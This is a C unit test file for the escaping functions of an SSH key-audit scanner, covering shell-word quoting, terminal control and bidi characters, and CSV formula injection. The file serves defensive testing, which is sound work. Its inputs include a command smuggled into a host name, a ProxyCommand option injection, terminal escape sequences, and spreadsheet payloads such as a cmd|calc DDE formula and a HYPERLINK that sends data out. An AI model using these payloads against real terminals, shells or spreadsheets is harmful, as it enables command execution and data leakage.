/* test_escape.c - the one escaping function every output uses
 * (str_printable, str_terminal, str_shows_as_is in scanner/util.c) and CSV
 * cells (csv_cell): text a host, an inventory or a user chose must reach a
 * terminal or a spreadsheet as the bytes it is, never as a command to
 * either. */
#include "tests/unit/testutil.h"

/* str_printable of a C string, kept until the process ends. */
static const char *
pr(const char *s)
{
	static struct strlist keep;

	strlist_add_owned(&keep, str_printable(s, strlen(s)));
	return keep.v[keep.n - 1];
}

static const char *
csv(const char *s)
{
	static struct strlist keep;
	struct buf b;

	buf_init(&b);
	csv_cell(&b, s);
	strlist_add_owned(&keep, buf_steal(&b));
	return keep.v[keep.n - 1];
}

/* Printed commands: a word a host chose is one word to the shell, and a
 * word that would not read as what runs is no command at all. */
static void
test_command_words(void **state)
{
	struct ka_remedy r = { 0 };
	char *t;

	remedy_run(&r, ACT_CLIENT, 1, "ssh-copy-id", "-i", "/home/a/k.pub",
	    "alice@web1;touch /tmp/x;:", NULL);
	remedy_run(&r, ACT_SERVER, 0, "chmod", "go-w", "/home/it's $(x)`y`", NULL);
	t = remedy_text(&r);
	assert_string_equal(t, "on the client: ssh-copy-id -i /home/a/k.pub "
	    "'alice@web1;touch /tmp/x;:'; then chmod go-w '/home/it'\"'\"'s $(x)`y`'");
	free(t);
	remedy_free(&r);
	assert_true(remedy_word_ok("web1;touch /tmp/x;:"));
	assert_false(remedy_word_ok("-oProxyCommand=x"));
	assert_false(remedy_word_ok("web1\xe2\x80\xae"));	/* RLO */
	assert_false(remedy_word_ok("web1\033[2J"));
	assert_false(remedy_word_ok("web1\xff"));
	assert_false(remedy_word_ok(""));
}

static void
test_plain_text_unchanged(void **state)
{
	assert_string_equal(pr("alice@web1.example:22 /home/a b/.ssh"),
	    "alice@web1.example:22 /home/a b/.ssh");
	/* letters of every script stay letters */
	assert_string_equal(pr("J\xc3\xb6rg \xd7\xa9\xd7\x9c\xd7\x95\xd7\x9d \xe6\x97\xa5\xe6\x9c\xac"),
	    "J\xc3\xb6rg \xd7\xa9\xd7\x9c\xd7\x95\xd7\x9d \xe6\x97\xa5\xe6\x9c\xac");
	assert_string_equal(pr("\xf0\x9f\x94\x91 key"), "\xf0\x9f\x94\x91 key");
	assert_string_equal(pr(""), "");
	assert_true(str_shows_as_is("J\xc3\xb6rg", 5));
}

static void
test_controls(void **state)
{
	/* C0, DEL: a title-setting OSC and a colour */
	assert_string_equal(pr("a\033]0;pwned\007b\033[31m"), "a\\x1b]0;pwned\\x07b\\x1b[31m");
	assert_string_equal(pr("x\x7fy"), "x\\x7fy");
	assert_string_equal(pr("one\ntwo\rthree\tfour"), "one\\x0atwo\\x0dthree\\x09four");
	/* C1 controls, encoded (U+009B CSI) and raw */
	assert_string_equal(pr("a\xc2\x9b" "31mb"), "a\\xc2\\x9b31mb");
	assert_string_equal(pr("a\x9b" "31mb"), "a\\x9b31mb");
	/* a backslash is doubled, so \x1b in a name reads back unambiguously */
	assert_string_equal(pr("a\\x1b"), "a\\\\x1b");
	assert_false(str_shows_as_is("a\033b", 3));
	assert_false(str_shows_as_is("a\x7f", 2));
	assert_true(str_shows_as_is("a\\b", 3));
}

static void
test_invalid_utf8(void **state)
{
	char *p;

	assert_string_equal(pr("\xff\xfe"), "\\xff\\xfe");
	assert_string_equal(pr("\xc0\xaf"), "\\xc0\\xaf");		/* overlong '/' */
	assert_string_equal(pr("\xed\xa0\x80"), "\\xed\\xa0\\x80");	/* a surrogate */
	assert_string_equal(pr("a\xe2\x80"), "a\\xe2\\x80");		/* truncated */
	assert_string_equal(pr("\xf4\x90\x80\x80"), "\\xf4\\x90\\x80\\x80");	/* > U+10FFFF */
	assert_false(str_shows_as_is("\xff", 1));
	/* a NUL inside the given length is a byte like the others */
	p = str_printable("a\0b", 3);
	assert_string_equal(p, "a\\x00b");
	free(p);
}

static void
test_bidi_and_invisible(void **state)
{
	/* "Trojan Source": every bidi control and mark */
	assert_string_equal(pr("\xd8\x9c"), "\\u061c");		/* ALM */
	assert_string_equal(pr("\xe2\x80\x8e\xe2\x80\x8f"), "\\u200e\\u200f");	/* LRM RLM */
	assert_string_equal(pr("\xe2\x80\xaa\xe2\x80\xab\xe2\x80\xac\xe2\x80\xad\xe2\x80\xae"),
	    "\\u202a\\u202b\\u202c\\u202d\\u202e");		/* LRE RLE PDF LRO RLO */
	assert_string_equal(pr("\xe2\x81\xa6\xe2\x81\xa7\xe2\x81\xa8\xe2\x81\xa9"),
	    "\\u2066\\u2067\\u2068\\u2069");			/* LRI RLI FSI PDI */
	/* what an RLO does to a file name: "evil\u202etxt.sh" */
	assert_string_equal(pr("evil\xe2\x80\xaetxt.sh"), "evil\\u202etxt.sh");
	/* line and paragraph separators: one line must stay one line */
	assert_string_equal(pr("a\xe2\x80\xa8" "b\xe2\x80\xa9"), "a\\u2028b\\u2029");
	/* zero-width and invisible: two names that look the same must not */
	assert_string_equal(pr("ro\xe2\x80\x8bot"), "ro\\u200bot");
	assert_string_equal(pr("\xe2\x80\x8c\xe2\x80\x8d\xe2\x81\xa0\xef\xbb\xbf"),
	    "\\u200c\\u200d\\u2060\\ufeff");
	assert_string_equal(pr("a\xc2\xad" "b"), "a\\u00adb");		/* soft hyphen */
	assert_string_equal(pr("\xe3\x85\xa4"), "\\u3164");		/* hangul filler */
	/* tag characters (invisible ASCII), outside the BMP */
	assert_string_equal(pr("\xf3\xa0\x81\x81"), "\\U000e0041");
	assert_false(str_shows_as_is("evil\xe2\x80\xaetxt", 11));
	assert_false(str_shows_as_is("\xe2\x80\xa8", 3));
	/* the characters next to them are ordinary */
	assert_string_equal(pr("\xe2\x80\x90\xe2\x80\xb0"), "\xe2\x80\x90\xe2\x80\xb0");	/* hyphen, per mille */
	assert_true(str_shows_as_is("\xe2\x80\x90", 3));
}

static void
test_terminal_idempotent(void **state)
{
	char *once = str_printable("a\\b\033c\xe2\x80\xae", 9);
	char *t = str_terminal(once);

	/* a message built from parts made printable already is unchanged */
	assert_string_equal(t, once);
	free(t);
	free(once);
	/* and a raw part in it is escaped, a backslash left alone */
	t = str_terminal("inventory 'web1\033[2J' at C:\\x");
	assert_string_equal(t, "inventory 'web1\\x1b[2J' at C:\\x");
	free(t);
	t = str_terminal("line one\nline two");
	assert_string_equal(t, "line one\\x0aline two");
	free(t);
}

static void
test_csv_rfc4180(void **state)
{
	assert_string_equal(csv("plain"), "plain");
	assert_string_equal(csv(NULL), "");
	assert_string_equal(csv(""), "");
	assert_string_equal(csv("a,b"), "\"a,b\"");
	assert_string_equal(csv("say \"hi\""), "\"say \"\"hi\"\"\"");
	assert_string_equal(csv("two\nlines"), "\"two\nlines\"");
	/* not at the start: no formula, no apostrophe */
	assert_string_equal(csv("a=1+2"), "a=1+2");
	assert_string_equal(csv("alice@laptop"), "alice@laptop");
}

static void
test_csv_formula(void **state)
{
	const char *starts[] = { "=", "+", "-", "@", "\t", "\r" };

	assert_string_equal(csv("=HYPERLINK(\"http://x/\"&A1)"),
	    "\"'=HYPERLINK(\"\"http://x/\"\"&A1)\"");
	assert_string_equal(csv("+1+cmd|' /C calc'!A0"), "\"'+1+cmd|' /C calc'!A0\"");
	assert_string_equal(csv("-2+3"), "\"'-2+3\"");
	assert_string_equal(csv("@SUM(A1)"), "\"'@SUM(A1)\"");
	assert_string_equal(csv("\t=1"), "\"'\t=1\"");
	assert_string_equal(csv("\r=1"), "\"'\r=1\"");
	/* whatever follows, a formula character never starts a cell */
	for (size_t i = 0; i < KA_ARRLEN(starts); i++) {
		char in[16];
		const char *out;

		snprintf(in, sizeof(in), "%sx,y", starts[i]);
		out = csv(in);
		assert_true(out[0] == '"' && out[1] == '\'');
		snprintf(in, sizeof(in), "%s", starts[i]);
		out = csv(in);
		assert_true(out[0] == '"' && out[1] == '\'');
	}
}

int
main(void)
{
	const struct CMUnitTest tests[] = {
		cmocka_unit_test(test_plain_text_unchanged),
		cmocka_unit_test(test_controls),
		cmocka_unit_test(test_invalid_utf8),
		cmocka_unit_test(test_bidi_and_invisible),
		cmocka_unit_test(test_terminal_idempotent),
		cmocka_unit_test(test_csv_rfc4180),
		cmocka_unit_test(test_csv_formula),
		cmocka_unit_test(test_command_words),
	};
	return cmocka_run_group_tests(tests, NULL, NULL);
}
